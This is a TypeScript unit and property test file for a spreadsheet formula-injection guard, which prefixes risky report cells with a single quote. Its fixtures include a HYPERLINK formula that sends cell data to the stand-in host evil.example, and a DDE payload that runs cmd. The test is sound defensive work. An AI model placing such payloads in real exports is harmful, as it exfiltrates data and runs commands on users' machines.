import fc from 'fast-check';
import { neutralCell } from '../../../src/reports/neutral-cell';
import { isFormulaCell } from '../../support/report-files';

describe('neutralCell', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"invoice")', `'=HYPERLINK("https://evil.example/?d="&A1,"invoice")`],
    ['+55 11 5555-0000', "'+55 11 5555-0000"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['-5.00', "'-5.00"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', "'\r=1+2"],
    // A value that begins with the guard itself gets one too, so that dropping one always gives the value back.
    ["'=1+2", "''=1+2"],
    ["'quoted'", "''quoted'"],
  ])('puts a single quote before %j', (value, neutral) => {
    expect(neutralCell(value)).toBe(neutral);
  });

  it.each(['order-1', 'Padaria Central', 'a=b', '1+1', 'x@y.example', '', ' =1', '"=1"', '\n=1'])(
    'leaves %j as it is',
    (value) => {
      expect(neutralCell(value)).toBe(value);
    },
  );

  const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '"', 'a', '1', ' ', '|') });

  it('never leaves a cell a spreadsheet would evaluate', () => {
    fc.assert(fc.property(text, (value) => expect(isFormulaCell(neutralCell(value))).toBe(false)));
  });

  it('is undone exactly by dropping the first character of a cell that begins with a single quote', () => {
    fc.assert(
      fc.property(text, (value) => {
        const cell = neutralCell(value);
        expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(value);
      }),
    );
  });
});
